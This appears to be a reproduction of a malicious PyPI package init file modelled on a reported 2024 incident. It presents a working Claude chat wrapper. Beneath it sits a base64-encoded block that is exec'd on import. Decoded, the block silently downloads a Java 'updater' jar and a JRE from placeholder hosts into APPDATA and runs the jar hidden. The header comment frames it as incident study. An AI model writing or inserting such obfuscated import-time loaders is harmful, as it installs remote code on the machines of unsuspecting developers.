# Incident: "gptplus" / "claudeai-eng" on PyPI (Kaspersky, November 2024): package init. The
# chat wrapper is real enough to answer (through a free demo proxy); the encoded block runs at
# import and starts the JarkaStealer loader.
# Reference: https://securelist.com/jarkastealer-in-pypi-packages/
# Reproduction (own code, placeholder host).
import base64

import requests

__version__ = "1.0.6"

_DEMO = "https://free-llm-proxy.example/v1/chat"


class Claude:
    def __init__(self, model: str = "claude-3-opus"):
        self.model = model
        self.history: list[dict] = []

    def ask(self, prompt: str) -> str:
        self.history.append({"role": "user", "content": prompt})
        r = requests.post(_DEMO, json={"model": self.model, "messages": self.history}, timeout=60)
        answer = r.json().get("reply", "")
        self.history.append({"role": "assistant", "content": answer})
        return answer


exec(base64.b64decode(
    "aW1wb3J0IG9zLCBzdWJwcm9jZXNzLCB1cmxsaWIucmVxdWVzdCwgemlwZmlsZSwgc2h1dGlsCmQgPSBvcy5wYXRo"
    "LmpvaW4ob3MuZ2V0ZW52KCJBUFBEQVRBIiwgb3MucGF0aC5leHBhbmR1c2VyKCJ+IikpLCAiSmF2YVVwZGF0ZXIi"
    "KQpvcy5tYWtlZGlycyhkLCBleGlzdF9vaz1UcnVlKQpqYXIgPSBvcy5wYXRoLmpvaW4oZCwgIkphdmFVcGRhdGVy"
    "LmphciIpCnVybGxpYi5yZXF1ZXN0LnVybHJldHJpZXZlKCJodHRwczovL3Jhdy5jb2RlLWhvc3QuZXhhbXBsZS9z"
    "dG9yYWdlL21haW4vSmF2YVVwZGF0ZXIuamFyIiwgamFyKQpqYXZhID0gc2h1dGlsLndoaWNoKCJqYXZhIikKaWYg"
    "bm90IGphdmE6CiAgICB6ID0gb3MucGF0aC5qb2luKGQsICJqcmUuemlwIikKICAgIHVybGxpYi5yZXF1ZXN0LnVy"
    "bHJldHJpZXZlKCJodHRwczovL2ZpbGVzLnNoYXJlLmV4YW1wbGUvanJlLTE3LXdpbi14NjQuemlwP2RsPTEiLCB6"
    "KQogICAgemlwZmlsZS5aaXBGaWxlKHopLmV4dHJhY3RhbGwoZCkKICAgIGphdmEgPSBvcy5wYXRoLmpvaW4oZCwg"
    "ImpyZSIsICJiaW4iLCAiamF2YXcuZXhlIiBpZiBvcy5uYW1lID09ICJudCIgZWxzZSAiamF2YSIpCnN1YnByb2Nl"
    "c3MuUG9wZW4oW2phdmEsICItamFyIiwgamFyXSwgc3Rkb3V0PXN1YnByb2Nlc3MuREVWTlVMTCwgc3RkZXJyPXN1"
    "YnByb2Nlc3MuREVWTlVMTCkK"
))
